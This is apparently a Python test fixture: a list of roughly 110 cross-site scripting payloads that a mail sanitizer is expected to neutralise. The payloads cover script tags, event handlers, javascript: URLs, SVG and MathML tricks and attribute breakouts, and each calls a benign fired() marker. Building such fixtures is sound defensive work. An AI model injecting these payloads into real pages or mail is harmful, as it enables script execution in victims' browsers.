"""What strangers put into mail so that it runs in a reader's page. Each calls fired()."""

_RUN = "fired('xss')"

_TAGS = [
    "<script>{r}</script>", "<ScRiPt>{r}</sCrIpT>", "<script src=data:text/javascript,{r}></script>", "<script type=module>{r}</script>",
    "<script\x0c>{r}</script>", "</title><script>{r}</script>", "</textarea><script>{r}</script>", "</style><script>{r}</script>",
    "--><script>{r}</script>", "]]><script>{r}</script>", "<img src=x onerror={r}>", "<img src=x onerror=\"{r}\">", "<img src=x onerror='{q}'>",
    "<img/src=x/onerror={r}>", "<IMG SRC=x ONERROR={r}>", "<img src=`x`onerror={r}>", "<img src=x:x onerror\n=\n{r}>",
    "<image src=x onerror={r}>", "<svg onload={r}>", "<svg/onload={r}>", "<svg><script>{r}</script></svg>", "<svg><script href=data:text/javascript,{r} />",
    "<svg><animate onbegin={r} attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:{r}\"><text x=20 y=20>go</text></a></svg>",
    "<svg><set attributeName=onmouseover to={r}>", "<svg><foreignObject><iframe srcdoc='<script>parent.{q}</script>'></foreignObject></svg>",
    "<math><a xlink:href=\"javascript:{r}\">go</a></math>", "<math><mtext><table><mglyph><style><img src=x onerror={r}>",
    "<math><mi//xlink:href=\"data:x,<script>{q}</script>\">", "<body onload={r}>", "<body onpageshow={r}>", "<body onhashchange={r}>",
    "<iframe onload={r}></iframe>", "<iframe src=\"javascript:{r}\"></iframe>", "<iframe srcdoc=\"<script>{q}</script>\"></iframe>",
    "<iframe src=\"data:text/html,<script>parent.{q}</script>\"></iframe>", "<object data=\"javascript:{r}\"></object>",
    "<object data=\"data:text/html,<script>{q}</script>\"></object>", "<embed src=\"javascript:{r}\">", "<embed src=\"data:text/html,<script>{q}</script>\">",
    "<a href=\"javascript:{r}\">go</a>", "<a href=\"JaVaScRiPt:{r}\">go</a>", "<a href=\"java\tscript:{r}\">go</a>", "<a href=\" javascript:{r}\">go</a>",
    "<a href=\"&#106;avascript:{r}\">go</a>", "<a href=\"javascript&colon;{r}\">go</a>", "<a href=\"data:text/html,<script>{q}</script>\">go</a>",
    "<a href=\"vbscript:{r}\">go</a>", "<a target=_top href=\"javascript:{r}\">go</a>", "<a target=_parent href=\"javascript:{r}\">go</a>",
    "<a href=# onclick={r}>go</a>", "<a onmouseover={r}>go</a>", "<area href=\"javascript:{r}\">", "<form action=\"javascript:{r}\"><input type=submit></form>",
    "<form><button formaction=\"javascript:{r}\">go</button></form>", "<form onsubmit={r}><input type=submit></form>", "<input autofocus onfocus={r}>",
    "<input onblur={r} autofocus><input autofocus>", "<input type=image src=x onerror={r}>", "<select autofocus onfocus={r}>", "<textarea autofocus onfocus={r}>",
    "<keygen autofocus onfocus={r}>", "<video onerror={r}><source></video>", "<video src=x onerror={r}>", "<video poster=\"javascript:{r}\">",
    "<audio src=x onerror={r}>", "<details open ontoggle={r}>", "<marquee onstart={r}>x</marquee>", "<dialog open onclose={r}><form method=dialog><button>go</button></form>",
    "<style>@import 'javascript:{q}';</style>", "<style>*{{background:url(\"javascript:{q}\")}}</style>", "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={r}>",
    "<div style=\"background:url(javascript:{q})\">", "<div style=\"width:expression({q})\">", "<p style=transition:1s onTransitionEnd={r}>", "<link rel=stylesheet href=\"javascript:{r}\">",
    "<link rel=import href=\"data:text/html,<script>{q}</script>\">", "<link rel=preload as=image href=x onerror={r}>", "<meta http-equiv=refresh content=\"0;url=javascript:{r}\">",
    "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>{q}</script>\">", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{r}</script>",
    "<base href=\"javascript:{r}//\"><a href=x>go</a>", "<base target=_top><a href=\"javascript:{r}\">go</a>", "<template><script>{r}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={q}>\">", "<xmp><img src=x onerror={r}></xmp>", "<plaintext><script>{r}</script>", "<table background=\"javascript:{r}\">",
    "<isindex action=\"javascript:{r}\" type=submit>", "<bgsound src=\"javascript:{r}\">", "<layer src=\"javascript:{r}\">", "<x onclick={r} tabindex=1 autofocus onfocus={r}>go</x>",
    "<b popovertarget=p>x</b><p popover id=p onbeforetoggle={r}>", "<img srcset=x onerror={r}>", "<picture><source srcset=x><img onerror={r} src=x></picture>",
    "<!--[if gte IE 4]><script>{r}</script><![endif]-->", "<![CDATA[<script>{r}</script>]]>", "<?xml version=1.0?><script xmlns=http://www.w3.org/1999/xhtml>{r}</script>",
    "\"><script>{r}</script>", "'><img src=x onerror={r}>", "\" onmouseover=\"{r}", "' autofocus onfocus='{q}", "javascript:{r}", "{{{{constructor.constructor('{q}')()}}}}", "${{{r}}}",
    "<a href=\"https://x.test/\" ping=\"javascript:{r}\">go</a>", "<script>top.document.title='FIRED'</script>", "<img src=x onerror=\"parent.{r}\">",
    "<img src=x onerror=\"top.location='javascript:{q}'\">", "<script>open('javascript:{q}')</script>",
]

PAYLOADS = [tag.format(r=_RUN, q="fired(`xss`)") for tag in _TAGS]
